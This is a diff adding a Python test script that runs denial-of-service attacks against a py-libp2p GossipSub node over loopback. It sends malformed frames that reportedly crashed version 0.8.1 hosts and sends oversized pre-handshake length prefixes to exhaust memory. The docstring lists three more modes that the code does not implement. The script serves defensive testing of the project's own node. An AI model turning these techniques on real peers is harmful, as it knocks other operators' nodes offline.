@@ -1,0 +1,147 @@
+"""Attacks on a running node's network face, each from a real py-libp2p host (or raw sockets) in
+this process: what a stranger can do without any standing. For tests and for the memory figures
+in docs/gossip.md; loopback only, never aim it at a node that is not yours.
+
+    python scripts/attack_gossip.py junk ADDR [--senders 5]
+    python scripts/attack_gossip.py mss-prefix ADDR [--connections 8] [--mib 64]
+    python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16]
+    python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30]
+    python scripts/attack_gossip.py rss PID [--attack ... as above, with --target ADDR]
+
+Each prints one line per stage (`started ...`, `done ...`) so that a caller can follow it.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import socket
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+LOOPBACK = "/ip4/127.0.0.1/tcp/0"
+
+
+def _say(*words: object) -> None:
+    print(*words, flush=True)
+
+
+def _tcp_target(addr: str) -> tuple[str, int]:
+    parts = addr.split("/")
+    ip, port = parts[parts.index("ip4") + 1], int(parts[parts.index("tcp") + 1])
+    if ip != "127.0.0.1":
+        raise SystemExit(f"{addr}: this script attacks loopback only")
+    return ip, port
+
+
+# ------------------------------------------------------------ junk on /meshsub from fresh keys
+
+
+def junk(addr: str, senders: int) -> None:
+    """`senders` fresh identities, one after the other, each dials and sends frames on the
+    GossipSub stream that are not protobuf: what killed 0.8.1 hosts (DecodeError) and, after that
+    was guarded, raced the node's ban against the library's teardown (KeyError)."""
+    import multiaddr
+    import trio
+    from libp2p import new_host
+    from libp2p.crypto.ed25519 import create_new_key_pair
+    from libp2p.peer.peerinfo import info_from_p2p_addr
+    from libp2p.pubsub.gossipsub import PROTOCOL_ID, PROTOCOL_ID_V11, GossipSub
+    from libp2p.pubsub.pubsub import Pubsub
+    from libp2p.tools.anyio_service import background_trio_service
+    from libp2p.utils.varint import encode_uvarint
+
+    from node.identity import Identity
+
+    _tcp_target(addr)
+    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))
+
+    async def one(n: int) -> None:
+        me = Identity.generate()
+        host = new_host(key_pair=create_new_key_pair(me.seed), muxer_preference="YAMUX")
+        # A real GossipSub peer, so that the node registers it (opens its own stream to us)
+        # before the junk arrives: the ban then has a registered peer to tear down.
+        router = GossipSub(protocols=[PROTOCOL_ID_V11, PROTOCOL_ID], degree=6, degree_low=4,
+                           degree_high=12, heartbeat_interval=1)  # fmt: skip
+        pubsub = Pubsub(host, router, strict_signing=True)
+        async with host.run(listen_addrs=[multiaddr.Multiaddr(LOOPBACK)]), \
+                background_trio_service(pubsub), background_trio_service(router):  # fmt: skip
+            await pubsub.wait_until_ready()
+            _say("junker", n, me.peer_id)
+            try:
+                with trio.fail_after(20):
+                    await host.connect(info)
+                    _say("connected", n)
+                    with trio.move_on_after(5):  # the node's own stream to us: it knows us
+                        await pubsub.wait_for_peer(info.peer_id, timeout=5)
+                    for frame in (b"\x0a\xff\xff\xff\xff\x0f" + os.urandom(64), os.urandom(200)):
+                        stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
+                        await stream.write(encode_uvarint(len(frame)) + frame)
+                        _say("sent", n)
+                        await trio.sleep(0.2)
+            except Exception as exc:  # the node drops us: that is what it should do
+                _say("send failed:", type(exc).__name__)
+            await trio.sleep(0.5)
+
+    async def main() -> None:
+        for n in range(senders):
+            await one(n)
+        _say("done")
+
+    trio.run(main)
+
+
+# ------------------------------------------------------------ unauthenticated memory
+
+
+def mss_prefix(addr: str, connections: int, mib: int) -> None:
+    """Raw TCP: a multistream-select length prefix of 1 GiB, then `mib` MiB of data, on each of
+    `connections` sockets, before any handshake. An unguarded 0.8.1 node buffers all of it."""
+    target = _tcp_target(addr)
+    prefix = _uvarint(1 << 30)
+    chunk = b"\x00" * (1 << 20)
+    socks = []
+    for _ in range(connections):
+        sock = socket.create_connection(target, timeout=10)
+        socks.append(sock)
+    _say("started", connections)
+    sent = [0] * connections
+    for i, sock in enumerate(socks):
+        try:
+            sock.sendall(prefix)
+            for _ in range(mib):
+                sock.sendall(chunk)
+                sent[i] += 1
+        except OSError as exc:
+            _say(f"connection {i} closed after {sent[i]} MiB: {exc.strerror or exc}")
+    _say("done", sum(sent), "MiB sent")
+    time.sleep(float(os.environ.get("ATTACK_HOLD", "5")))
+
+
+def _uvarint(value: int) -> bytes:
+    out = bytearray()
+    while True:
+        byte = value & 0x7F
+        value >>= 7
+        if value:
+            out.append(byte | 0x80)
+        else:
+            out.append(byte)
+            return bytes(out)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("attack", choices=["junk", "mss-prefix"])
+    parser.add_argument("addr")
+    parser.add_argument("--senders", type=int, default=5)
+    parser.add_argument("--connections", type=int, default=8)
+    parser.add_argument("--mib", type=int, default=64)
+    args = parser.parse_args()
+    if args.attack == "junk":
+        junk(args.addr, args.senders)
+    elif args.attack == "mss-prefix":
+        mss_prefix(args.addr, args.connections, args.mib)
